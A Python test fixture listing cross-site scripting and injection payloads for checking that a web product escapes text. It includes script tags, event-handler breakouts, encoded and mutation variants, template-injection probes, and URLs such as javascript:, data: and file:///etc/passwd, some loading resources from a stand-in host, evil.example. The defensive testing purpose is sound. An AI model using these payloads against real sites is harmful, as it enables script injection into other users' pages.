"""Texts that would run a script, if any page took one of them for more than text.

Written for this product. Each names itself by a word of its own (`seen007`), so that a page can be
asked whether it shows what it was given; and each, where it runs, calls `fired`.
"""

from __future__ import annotations

from collections.abc import Sequence

FIRE = "fired(1)"
ELSEWHERE = "//evil.example"

# Elements that run, fetch or lead somewhere, as text.
_ELEMENTS = (
    f"<script>{FIRE}</script>",
    f"<ScRiPt\n>{FIRE}</sCrIpT >",
    f"<script src={ELSEWHERE}/x.js></script>",
    f"<img src=x onerror={FIRE}>",
    f"<svg/onload={FIRE}>",
    f"<svg><script href={ELSEWHERE}/x.js /></svg>",
    f"<svg><animate onbegin={FIRE} attributeName=x dur=1s></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    f'onerror={FIRE}&gt;">',
    f"<math href=javascript:{FIRE}>math</math>",
    f"<details open ontoggle={FIRE}>",
    f"<video><source onerror={FIRE}></video>",
    f"<iframe srcdoc='<script>parent.{FIRE}</script>'></iframe>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f"<object data=data:text/html,<script>{FIRE}</script>></object>",
    f"<a href=javascript:{FIRE}>link</a>",
    f"<base href={ELSEWHERE}/>",
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/">',
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<form action={ELSEWHERE}><button>send</button></form>",
    f"<input autofocus onfocus={FIRE}>",
    f"<template><script>{FIRE}</script></template>",
)
# Ends of what a text may stand in.
_BREAKOUTS = (
    f'"><img src=x onerror={FIRE}>',
    f"'><img src=x onerror={FIRE}>",
    f'" autofocus onfocus="{FIRE}" x="',
    f"' autofocus onfocus='{FIRE}' x='",
    f"x autofocus onfocus={FIRE} tabindex=1",
    f"`-{FIRE}-`",
    *(f"</{name}><script>{FIRE}</script>" for name in
      ("textarea", "title", "style", "script", "option></select", "code", "iframe", "noscript")),
    f"--><script>{FIRE}</script><!--",
    f"<!--><script>{FIRE}</script>-->",
    f"<![CDATA[<script>{FIRE}</script>]]>",
    f"]]><script>{FIRE}</script>",
    f"<?xml-stylesheet href='javascript:{FIRE}'?>",
    f'"}}],"x":[{{"y":"</script><script>{FIRE}</script>',
    f'\\"}});{FIRE};//',
    f"}}}}body{{background:url({ELSEWHERE}/a)}}",
    f"red;background:url({ELSEWHERE}/b);x:expression({FIRE})",
)  # fmt: skip
# Texts that become something else when they are read once too often.
_ENCODED = (
    f"&lt;script&gt;{FIRE}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={FIRE}&amp;gt;",
    f"&#60;img src=x onerror={FIRE}&#62;",
    f"&#x3c;svg onload={FIRE}&#x3e;",
    f"%3Cscript%3E{FIRE}%3C/script%3E",
    f"\\u003cscript\\u003e{FIRE}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{FIRE}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{FIRE}\uff1c/script\uff1e",
    f"<scr\0ipt>{FIRE}</scr\0ipt>",
    f"<img src=x\u2028onerror={FIRE}\u2029>",
    "{{ 19141 * 7919 }} ${19141 * 7919} <%= 19141 * 7919 %> #{19141 * 7919}",
    "{% raw %}{# comment #}{% include 'web/admin.html.j2' %}",
    "%(contact)s %(service)s %s %n %%",
    f"\u202e\u2066<script>{FIRE}</script>\u2069\u202c",
    f"\ufeff<script>{FIRE}</script>",
)
_LONG = ("<" * 300 + f"img src=x onerror={FIRE}>", f"{'<b>' * 200}<script>{FIRE}</script>")

TEXTS: Sequence[str] = tuple(
    f"seen{number:03d} {text}"
    for number, text in enumerate((*_ELEMENTS, *_BREAKOUTS, *_ENCODED, *_LONG))
)
# Those that fit a name of 60 characters on one line.
NAMES: Sequence[str] = tuple(one for one in TEXTS if len(one) <= 60 and one.isprintable())
URLS: Sequence[str] = (
    f"javascript:{FIRE}//https://ok.example/",
    f"JaVaScRiPt:{FIRE}",
    f"java\tscript:{FIRE}",
    f"\x01javascript:{FIRE}",
    f" javascript:{FIRE}",
    f"&#106;avascript:{FIRE}",
    f"javascript&colon;{FIRE}",
    f"data:text/html,<script>{FIRE}</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f"{ELSEWHERE}/x",
    f'https://ok.example/"onmouseover="{FIRE}"',
    f"https://ok.example/'><script>{FIRE}</script>",
    f"https://ok.example/%22%3E%3Cscript%3E{FIRE}%3C/script%3E",
    f"https://ok.example/#<img src=x onerror={FIRE}>",
    f"https://javascript:{FIRE}@ok.example/",
)


def sign(text: str) -> str:
    """The word by which a text is known on a page."""
    return text[:7]
